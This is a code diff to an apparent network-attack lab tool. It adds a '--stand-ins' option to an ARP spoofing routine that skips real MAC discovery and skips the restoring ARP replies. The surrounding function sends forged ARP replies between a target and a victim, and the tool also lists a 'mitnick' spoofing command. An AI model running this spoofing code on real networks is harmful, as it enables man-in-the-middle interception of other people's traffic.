@@ -151,13 +151,16 @@ def arp_spoof(arguments: argparse.Namespace) -> None:
     wire = conf.L2socket(iface=INTERFACE, promisc=False)
     own = get_if_hwaddr(INTERFACE)
     hosts = (arguments.target, arguments.victim)
-    macs = {address: _find(wire, own, arguments.source, address) for address in hosts}
+    if arguments.stand_ins:
+        macs = {address: mac_of(address) for address in hosts}
+    else:
+        macs = {address: _find(wire, own, arguments.source, address) for address in hosts}
     for _ in range(arguments.rounds):
         for claimed, receiver in (hosts, hosts[::-1]):
             claim = ARP(op=2, hwsrc=own, psrc=claimed, pdst=receiver, hwdst=macs[receiver])
             wire.send(Ether(src=own, dst=macs[receiver]) / claim)
         time.sleep(0.5)
-    for _ in range(3):
+    for _ in range(0 if arguments.stand_ins else 3):
         for claimed, receiver in (hosts, hosts[::-1]):
             truth = ARP(
                 op=2, hwsrc=macs[claimed], psrc=claimed, pdst=receiver, hwdst=macs[receiver]
@@ -263,6 +266,8 @@ def main(argv: Sequence[str] | None = None) -> int:
     command("mitnick", mitnick, "source", "unused", "trusted", "target")
     spoof = command("arp-spoof", arp_spoof, "source", "target", "victim")
     spoof.add_argument("--rounds", type=int, default=12)
+    # The hosts are not asked where they are, and not put right: nobody hears them.
+    spoof.add_argument("--stand-ins", action="store_true")
     command("arp-changes", arp_changes)
     leases = command("dhcp", dhcp)
     leases.add_argument("clients", type=int)
